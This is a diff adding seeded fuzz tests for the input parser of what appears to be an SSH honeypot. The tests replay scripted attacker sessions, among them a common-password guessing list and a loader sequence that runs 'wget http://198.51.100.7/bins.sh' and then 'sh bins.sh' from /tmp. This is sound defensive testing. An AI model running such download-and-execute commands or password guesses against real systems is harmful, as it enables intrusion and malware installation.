@@ -399,6 +399,140 @@ mod tests {
         handler
     }
 
+    /// What a barrage-style client sends over one whole SSH dialogue with
+    /// the machine `fuzz_server` builds: a credential scout, a login-only
+    /// intruder, a command bot and a loader.
+    fn recorded_client_streams(store: &NullStore) -> Vec<Vec<u8>> {
+        let mut intruder = ClientScript::new("root", &["pw1234"], &[]);
+        intruder.hangup_after_auth = true;
+        let scripts = [
+            ClientScript::new("admin", &["123456", "password", "root"], &[]),
+            intruder,
+            ClientScript::new("root", &["pw77"], &["uname -a", "nproc"]),
+            ClientScript::new(
+                "root",
+                &["pw9"],
+                &["cd /tmp", "wget http://198.51.100.7/bins.sh", "sh bins.sh"],
+            ),
+        ];
+        scripts
+            .into_iter()
+            .map(|script| {
+                let mut client = SshClient::new(script, vec![7]);
+                let mut server = fuzz_server(store);
+                let mut sent = Vec::new();
+                loop {
+                    let (up, down) = (client.take_output(), server.take_output());
+                    if up.is_empty() && down.is_empty() {
+                        return sent;
+                    }
+                    sent.extend_from_slice(&up);
+                    server.input(&up).expect("a recorded dialogue is valid");
+                    client.input(&down).expect("a recorded dialogue is valid");
+                }
+            })
+            .collect()
+    }
+
+    fn fuzz_server(store: &NullStore) -> SshServer<WireHandler<'_>> {
+        SshServer::new(
+            WireHandler::new(AuthPolicy::default(), store),
+            sshwire::SERVER_VERSION_DEFAULT,
+            [3; 16],
+            vec![1],
+        )
+    }
+
+    /// Feeds `stream` to a fresh machine in random chunks. Once a chunk
+    /// is refused the machine must be closed, and from then on it must
+    /// drop whatever follows: no output, no more logins or commands.
+    /// Returns whether any chunk was refused, and what the machine
+    /// answered before that.
+    fn feed_in_chunks(
+        store: &NullStore,
+        stream: &[u8],
+        rng: &mut rand::rngs::StdRng,
+    ) -> (bool, Vec<u8>) {
+        use rand::Rng;
+        let mut server = fuzz_server(store);
+        let (mut at, mut failed, mut answer) = (0, false, server.take_output().to_vec());
+        while at < stream.len() {
+            let end = (at + rng.random_range(1..=600usize)).min(stream.len());
+            let r = server.input(&stream[at..end]);
+            at = end;
+            if failed {
+                assert!(r.is_ok(), "a closed machine refused input");
+                assert!(server.take_output().is_empty(), "a closed machine answered");
+            } else if r.is_err() {
+                assert!(server.is_closed(), "an error left the machine open");
+                failed = true;
+                server.take_output();
+            } else {
+                answer.extend_from_slice(&server.take_output());
+            }
+        }
+        if failed {
+            let seen = (server.auth_log().len(), server.exec_log().len());
+            assert!(server.input(stream).is_ok());
+            assert!(server.input(&[0xff; 4096]).is_ok());
+            assert!(server.take_output().is_empty(), "a closed machine answered");
+            assert_eq!((server.auth_log().len(), server.exec_log().len()), seen);
+        }
+        (failed, answer)
+    }
+
+    /// Seeded fuzz of `SshServer::input`, the parser every SSH attacker
+    /// reaches: arbitrary bytes (bare, and behind a valid version line so
+    /// the packet decoder sees them), and truncations and single-byte
+    /// flips of recorded dialogues, each cut into random chunks.
+    #[test]
+    fn ssh_server_input_survives_seeded_fuzz() {
+        use rand::rngs::StdRng;
+        use rand::{Rng, SeedableRng};
+        let store = NullStore;
+        let streams = recorded_client_streams(&store);
+        let mut rng = StdRng::seed_from_u64(0x5eed_0051);
+        let (mut refused, mut flips) = (0, 0);
+        for case in 0..3_000 {
+            let base = &streams[case % streams.len()];
+            match case % 4 {
+                0 => {
+                    let len = rng.random_range(0..2_048usize);
+                    let mut junk: Vec<u8> = if rng.random::<bool>() {
+                        b"SSH-2.0-fuzz\r\n".to_vec()
+                    } else {
+                        Vec::new()
+                    };
+                    junk.extend((0..len).map(|_| rng.random::<u32>() as u8));
+                    refused += feed_in_chunks(&store, &junk, &mut rng).0 as u32;
+                }
+                1 => {
+                    // A truncated dialogue is only unfinished: never
+                    // refused, and answered as if it came in one piece.
+                    let cut = rng.random_range(0..base.len());
+                    let (failed, answer) = feed_in_chunks(&store, &base[..cut], &mut rng);
+                    assert!(!failed, "a truncated dialogue was refused (cut at {cut})");
+                    let mut whole = fuzz_server(&store);
+                    whole.input(&base[..cut]).unwrap();
+                    assert_eq!(answer, &whole.take_output()[..], "cut at {cut}");
+                }
+                _ => {
+                    let mut flipped = base.clone();
+                    let at = rng.random_range(0..flipped.len());
+                    flipped[at] ^= rng.random_range(1..256u32) as u8;
+                    refused += feed_in_chunks(&store, &flipped, &mut rng).0 as u32;
+                    flips += 1;
+                }
+            }
+        }
+        // The flips and the junk must reach the error paths, not just
+        // the happy one.
+        assert!(
+            refused > flips / 2,
+            "only {refused} of the cases were refused"
+        );
+    }
+
     #[test]
     fn shell_is_built_on_the_first_command() {
         let store = NullStore;
